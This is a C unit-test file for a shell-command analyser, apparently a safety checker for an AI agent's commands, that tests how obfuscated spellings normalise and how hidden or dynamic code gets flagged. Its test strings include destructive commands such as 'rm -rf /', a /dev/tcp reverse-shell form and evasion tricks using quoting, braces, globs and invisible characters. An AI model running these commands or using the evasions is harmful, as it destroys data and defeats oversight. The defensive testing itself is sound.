/* What runs, as records: every spelling of the same command gives the same facts, and what is not
 * known is trouble. */
#include "base/fault.h"
#include "base/scope.h"
#include "engine/shell/facts.h"
#include "engine/shell/lexer.h"
#include "tests/lib/facts_fixture.h"

#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>

#include <cmocka.h>

static const struct facts_setting setting = {.cwd = "/workspace", .home = "/users/agent"};

static void finds_arguments_around_redirects_and_quotes(void **state)
{
    (void)state;
    assert_runs("rm >log -rf /", "rm -rf /");
    assert_runs("rm &>log -rf /", "rm -rf /");
    assert_runs("rm 2>log -rf >>x /", "rm -rf /");
    assert_runs(">log rm -rf /", "rm -rf /");
    assert_runs("rm <<E -rf /\nbody\nE\n", "rm -rf /");
    assert_runs("r\\\nm -rf /", "rm -rf /");
    assert_runs("r'm' \"-rf\" \\/", "rm -rf /");
    assert_runs("$'\\x72m' -rf /", "rm -rf /");
    assert_runs("{rm,-rf,/}", "rm -rf /");
    assert_runs("{,rm} -rf {/,a}{b,}", "rm -rf /b / ab a");
    assert_runs("sh -i >& /dev/tcp/h/1 0>f.sh 0<f.sh", "sh -i");
}

static void finds_commands_at_any_depth(void **state)
{
    (void)state;
    assert_runs("echo \"${x:-`rm y`}\"", "rm y | echo ?");
    assert_runs("echo `echo \\`rm y\\``", "rm y | echo ? | echo ?");
    assert_runs("cat <<E\n`rm a` $(rm b)\nE\n", "rm a | rm b | cat");
    assert_runs("cat <<'E'\n`rm a` $(rm b)\nE\n", "cat");
    assert_runs("coproc N { rm x; }; time rm y; ! rm z", "rm x | rm y | rm z");
    assert_runs("((x=$(rm a))); let y=1; echo $((1+`rm b`))", "rm a | let y=1 | rm b | echo ?");
    assert_runs("a <<A <<B; b\n$(x)\nA\n$(y)\nB\nc", "x | y | a | b | c");
    assert_runs("if a; then b; elif c; then d; else e; fi", "a | b | c | d | e");
    assert_runs("case $(a) in b) c;; *) d; esac", "a | c | d");
    assert_runs("for x in $(a); do b; done <$(c)", "a | c | b");
    assert_runs("[[ -f $(a) && b == c ]] || d", "a | d");
    assert_runs("x=$(a) y=(1 $(b)) z[$(c)]=1", "a | b | c");
    assert_runs("diff <(a) >(b)", "a | b | diff ? ?");
    assert_runs("a & b | { c; (d); }", "a | b | c | d");
}

static void runs_functions_where_they_are_called(void **state)
{
    (void)state;
    assert_runs("f() { rm x; }", "rm x");
    assert_runs("f() { rm x; }; f", "f | rm x");
    assert_runs("f() { f; }; f", "f | f");
}

static void peels_what_runs_another_command(void **state)
{
    (void)state;
    assert_runs("sudo -u root -n rm x", "sudo -u root -n rm x | rm x");
    assert_runs("env -i A=1 -- nice -n5 nohup rm x", /* -- ends the options of env */
                "env -i A=1 -- nice -n5 nohup rm x | -- nice -n5 nohup rm x");
    assert_runs("env -i A=1 nice -n5 nohup rm x",
                "env -i A=1 nice -n5 nohup rm x | nice -n5 nohup rm x | nohup rm x | rm x");
    assert_runs("timeout -k 5 10s rm x", "timeout -k 5 10s rm x | rm x");
    assert_runs("sh -c 'rm x; b' name", "sh -c rm x; b name | rm x | b");
    assert_runs("bash -lc \"sh -c 'rm x'\"", "bash -lc sh -c 'rm x' | sh -c rm x | rm x");
    assert_runs("eval rm '-rf /'", "eval rm -rf / | rm -rf /");
    assert_runs("command -v sudo", "command -v sudo");
    assert_runs("exec -a b rm x; builtin cd y", "exec -a b rm x | rm x | builtin cd y | cd y");
    assert_runs("su - root -c 'rm x'", "su - root -c rm x | rm x");
    assert_runs("find a b -name c -exec rm {} + -o -ok d \\;",
                "find a b -name c -exec rm {} + -o -ok d ; | rm a/? b/? | d");
    assert_runs("find / -print0 | xargs -0 rm -f", "find / -print0 | xargs -0 rm -f | rm -f //?");
    assert_runs("a | xargs -I% mv % b", "a | xargs -I% mv % b | mv ? b");
    assert_runs("trap 'rm x' EXIT; trap - INT", "trap rm x EXIT | rm x | trap - INT");
    assert_runs("sh <<'E'\nrm x\nE\n", "sh | rm x");
    assert_runs("cat <<E | bash -s\nrm x\nE\n", "cat | bash -s | rm x");
    assert_runs("bash <<< 'rm x'", "bash | rm x");
    assert_runs("echo 'rm x' | sh", "echo rm x | sh | rm x");
    assert_runs("alias l='ls -l'", "alias l=ls -l | ls -l");
    assert_runs("sh ./build.sh; . ./env", "sh ./build.sh | . ./env");
}

static void says_what_it_does_not_know(void **state)
{
    (void)state;
    assert_trouble("$CMD x", TROUBLE_DYNAMIC);
    assert_trouble("\"$@\"", TROUBLE_DYNAMIC);
    assert_trouble("r$x y", TROUBLE_DYNAMIC);
    assert_trouble("[r]m x", TROUBLE_DYNAMIC);
    assert_trouble("/?\?\?/?m -rf /", TROUBLE_DYNAMIC);
    assert_trouble("sudo -Q x", TROUBLE_DYNAMIC);
    assert_trouble("timeout $T rm", TROUBLE_CODE);
    assert_trouble("sh -c \"$x\"", TROUBLE_CODE);
    assert_trouble("eval \"$x\"", TROUBLE_CODE);
    assert_trouble("a | sh", TROUBLE_CODE);
    assert_trouble("sh", TROUBLE_CODE);
    assert_trouble("bash <(a)", TROUBLE_CODE);
    assert_trouble("bash /dev/stdin", TROUBLE_CODE);
    assert_trouble("cd /dev && sh stdin", TROUBLE_CODE);
    assert_trouble(". /proc/self/fd/0", TROUBLE_CODE);
    assert_trouble("source \"$x\"", TROUBLE_CODE);
    assert_trouble("a | xargs -I% sh -c 'rm %'", TROUBLE_CODE);
    assert_trouble("env -S 'rm\\_x'", TROUBLE_CODE);
    assert_trouble("shopt -s expand_aliases\nalias x=rm\nx /", TROUBLE_DYNAMIC);
    assert_trouble("sh -c 'alias x=rm\nx /'", TROUBLE_DYNAMIC);
    assert_trouble("PS4='$(rm x)'; set -x", TROUBLE_DYNAMIC);
    assert_trouble("x='a[$(rm y)]'; ((x))", TROUBLE_DYNAMIC);
    assert_trouble("test -v 'a[$(rm y)]'", TROUBLE_DYNAMIC);
    assert_trouble("echo ${x@P}", TROUBLE_DYNAMIC);
    assert_trouble("hash -p /bin/rm ls; ls", TROUBLE_DYNAMIC);
    assert_trouble("a (", TROUBLE_SYNTAX);
    assert_trouble("cat <<E && rm -rf /", TROUBLE_SYNTAX);
}

static void reads_posix_shells_as_posix_shells(void **state)
{
    (void)state;
    assert_trouble("sh -c \"echo \\$'a\\\\' ; rm -rf / #'\"", TROUBLE_SYNTAX);
    assert_trouble("dash -c 'rm &>x -rf /'", TROUBLE_SYNTAX);
    assert_runs("bash -c 'rm &>x y'", "bash -c rm &>x y | rm y");
}

static void keeps_what_came_before_an_error(void **state)
{
    (void)state;
    SCOPED(facts_close) struct facts f = {0};
    facts_read_shell(&f, &setting, view_of("rm -rf /\n((("));
    assert_true(f.trouble.kinds & TROUBLE_SYNTAX);
    assert_string_equal(f.first->name, "rm");
}

static void sees_invisible_characters(void **state)
{
    (void)state;
    assert_trouble("echo ok \xe2\x80\xae; ls", TROUBLE_INVISIBLE);
    assert_trouble("l\xe2\x80\x8bs", TROUBLE_INVISIBLE);
    assert_trouble("ls \xf3\xa0\x81\xa1", TROUBLE_INVISIBLE);
    assert_trouble("ls\r", TROUBLE_INVISIBLE);
    assert_trouble("ls \x01", TROUBLE_INVISIBLE);
    assert_trouble("ls \xff", TROUBLE_INVISIBLE);
    assert_trouble("ls $'\\x01'", TROUBLE_INVISIBLE);
    SCOPED(facts_close) struct facts f = {0};
    facts_read_shell(&f, &setting, (struct view){(const uint8_t *)"ls\0rm", 5});
    assert_true(f.trouble.kinds & TROUBLE_INVISIBLE);
    assert_runs(
        "echo gr\xc3\xbc\xc3\x9f \xe6\x97\xa5 \xf0\x9f\x91\xa9\xe2\x80\x8d\xf0\x9f\x92\xbb",
        "echo gr\xc3\xbc\xc3\x9f \xe6\x97\xa5 \xf0\x9f\x91\xa9\xe2\x80\x8d\xf0\x9f\x92\xbb");
}

static const struct command_fact *last_command(const struct facts *f)
{
    const struct command_fact *c = f->first;
    while (c && c->next)
        c = c->next;
    assert_non_null(c);
    return c;
}

/* The directories of the last command, joined by spaces; "?" for an unknown one. */
static void assert_cwds(const char *text, const char *expected)
{
    SCOPED(facts_close) struct facts f = {0};
    char shown[1024] = "";
    facts_read_shell(&f, &setting, view_of(text));
    const struct cwds *cwds = last_command(&f)->cwds;
    for (unsigned i = 0; i < cwds->count; i++)
        snprintf(shown + strlen(shown), sizeof shown - strlen(shown), "%s%s", i ? " " : "",
                 cwds->path[i]);
    if (cwds->unknown)
        strcat(shown, "?");
    if (strcmp(shown, expected) != 0)
        print_error("%s: %s\n", text, shown);
    assert_string_equal(shown, expected);
}

static void follows_the_directory(void **state)
{
    (void)state;
    assert_cwds("a", "/workspace");
    assert_cwds("cd / && a", "/");
    assert_cwds("cd x/../y//z && a", "/workspace/y/z");
    assert_cwds("cd; a", "/users/agent /workspace");
    assert_cwds("cd / || a", "/workspace");
    assert_cwds("(cd /); a", "/workspace");
    assert_cwds("cd / | b; a", "/workspace");
    assert_cwds("cd / & a", "/workspace");
    assert_cwds("echo $(cd /) && a", "/workspace");
    assert_cwds("false && cd /x; a", "/x /workspace");
    assert_cwds("cd $x && a", "?");
    assert_cwds("cd $x && cd / && a", "/");
    assert_cwds("cd $x && cd y && a", "?");
    assert_cwds("ssh h 'cd /etc && a'", "/etc");
    assert_cwds("cd - && a", "?");
    assert_cwds("eval 'cd /' && a", "/");
    assert_cwds("command cd / && a", "/");
    assert_cwds("env cd / && a", "/workspace");
    assert_cwds("sh -c 'cd /' && a", "/workspace");
    assert_cwds("f() { cd /; }; f && a", "/");
    assert_cwds("if b; then cd /x; fi; a", "/x /workspace");
    assert_cwds("while b; do cd ..; done; a", "/workspace /");
    assert_cwds("while b; do cd x; done; a",
                "/workspace /workspace/x /workspace/x/x /workspace/x/x/x?");
    assert_cwds("CDPATH=/; cd x && a", "?");
    assert_cwds("env -C / a", "?");
}

static void expands_home_until_the_text_changes_it(void **state)
{
    (void)state;
    assert_runs("echo ~ ~/x $HOME \"$PWD/y\" ~root '~' \\~",
                "echo /users/agent /users/agent/x /users/agent /workspace/y /root ~ ~");
    assert_runs("HOME=/; echo ~", "echo /");
    assert_runs("export HOME=/; echo $HOME", "export HOME=/ | echo /");
    assert_runs("read HOME; echo ~", "read HOME | echo ?");
    assert_runs("export X=~/a:~/b", "export X=/users/agent/a:/users/agent/b");
}

static void reads_an_argument_vector_like_a_command(void **state)
{
    (void)state;
    SCOPED(facts_close) struct facts f = {0};
    char shown[256];
    const struct view argv[] = {view_of("sh"), view_of("-c"), view_of("rm -rf '/'")};
    facts_read_argv(&f, &setting, argv, 3);
    facts_show(shown, sizeof shown, &f);
    assert_string_equal(shown, "sh -c rm -rf '/' | rm -rf /");
    const struct view literal[] = {view_of("echo"), view_of("$(rm x)"), view_of("*")};
    facts_read_argv(&f, &setting, literal, 3);
    facts_show(shown, sizeof shown, &f);
    assert_string_equal(shown, "echo $(rm x) *");
    assert_int_equal(f.trouble.kinds, 0);
    facts_read_argv(&f, &setting, NULL, 0);
    assert_true(f.trouble.kinds & TROUBLE_SYNTAX);
}

static void fill(char *to, size_t size, const char *piece)
{
    size_t n = strlen(piece);
    for (size_t at = 0; at < size; at += n)
        memcpy(to + at, piece, at + n <= size ? n : size - at);
}

/* Each fills a text to its bound. */
static const char *const hostile[] = {"$(",
                                      "((",
                                      "`",
                                      "\"",
                                      "'",
                                      "{",
                                      "<<E\n",
                                      "$((",
                                      "${x:-",
                                      "(",
                                      "{a,b}",
                                      "{a,",
                                      "{",
                                      "if ",
                                      "! ",
                                      "a;",
                                      "a|",
                                      "a&&",
                                      "f(){ ",
                                      "case x in a) ",
                                      "[[ ( ",
                                      "a=(",
                                      "$'\\x41'",
                                      "\\",
                                      "a[",
                                      "coproc a ",
                                      "\"$(",
                                      "<(a ",
                                      "~/",
                                      "*",
                                      "{1..9}",
                                      "cat <<'E'\nx\nE\n",
                                      "a\\\n",
                                      "eval ",
                                      "sudo ",
                                      "sh -c ",
                                      "x=1 ",
                                      "2>f ",
                                      "for x in a; do ",
                                      "f(){ f;f;};f;",
                                      "f(){ f; };\n",
                                      "if a; then f(){ f; }; fi\n",
                                      "cd a;",
                                      "xargs ",
                                      "find -exec ",
                                      "}",
                                      "{a,b}{a,b}{a,b}{a,b}{a,b}{a,b}{a,b}{a,b} ",
                                      "$x",
                                      "[",
                                      "[]",
                                      "a",
                                      "1",
                                      "{x",
                                      "a=b:~:",
                                      "trap a ",
                                      "alias a=b;a ",
                                      "if a; then cd a; else cd b; fi;"};

static void works_in_steps_linear_in_the_length(void **state)
{
    (void)state;
    char *text = malloc(SHELL_MAX_BYTES);
    assert_non_null(text);
    SCOPED(facts_close) struct facts f = {0};
    for (size_t i = 0; i < COUNT(hostile); i++) {
        fill(text, SHELL_MAX_BYTES, hostile[i]);
        facts_read_shell(&f, &setting, (struct view){(uint8_t *)text, SHELL_MAX_BYTES});
        if (f.arena.steps > 128ull * SHELL_MAX_BYTES)
            print_error("%s: %llu steps\n", hostile[i], (unsigned long long)f.arena.steps);
        assert_true(f.arena.steps <= 128ull * SHELL_MAX_BYTES);
    }
    free(text);
}

static void counts_the_length_without_quoted_heredocs(void **state)
{
    (void)state;
    SCOPED(facts_close) struct facts f = {0};
    size_t body = 2 * SHELL_MAX_BYTES, size = body + 64;
    char *text = malloc(size);
    assert_non_null(text);
    fill(text, size, "x");
    memcpy(text, "cat <<'E'\n", 10);
    memcpy(text + body, "\nE\nls", 6);
    facts_read_shell(&f, &setting, (struct view){(uint8_t *)text, body + 5});
    assert_int_equal(f.trouble.kinds, 0);
    memcpy(text, "cat  <<E \n", 10);
    facts_read_shell(&f, &setting, (struct view){(uint8_t *)text, body + 5});
    assert_true(f.trouble.kinds & TROUBLE_TOO_LARGE);
    free(text);
}

static void survives_every_failing_allocation(void **state)
{
    (void)state;
    static const char text[] = "f() { rm -rf {a,b}/*; }; f | sh -c 'x $(y)' <<E >z\n$q\nE\n";
    long n = 0;
    for (bool failed = true; failed;) {
        SCOPED(facts_close) struct facts f = {0};
        fault_set(FAULT_ALLOC, ++n, false);
        facts_read_shell(&f, &setting, view_of(text));
        failed = fault_count(FAULT_ALLOC) >= n;
        fault_set(FAULT_ALLOC, 0, false);
        assert_true(!failed || f.trouble.kinds);
    }
    assert_true(n > 1);
}

int main(void)
{
    const struct CMUnitTest tests[] = {
        cmocka_unit_test(finds_arguments_around_redirects_and_quotes),
        cmocka_unit_test(finds_commands_at_any_depth),
        cmocka_unit_test(runs_functions_where_they_are_called),
        cmocka_unit_test(peels_what_runs_another_command),
        cmocka_unit_test(says_what_it_does_not_know),
        cmocka_unit_test(reads_posix_shells_as_posix_shells),
        cmocka_unit_test(keeps_what_came_before_an_error),
        cmocka_unit_test(sees_invisible_characters),
        cmocka_unit_test(follows_the_directory),
        cmocka_unit_test(expands_home_until_the_text_changes_it),
        cmocka_unit_test(reads_an_argument_vector_like_a_command),
        cmocka_unit_test(works_in_steps_linear_in_the_length),
        cmocka_unit_test(counts_the_length_without_quoted_heredocs),
        cmocka_unit_test(survives_every_failing_allocation),
    };
    return cmocka_run_group_tests(tests, NULL, NULL);
}
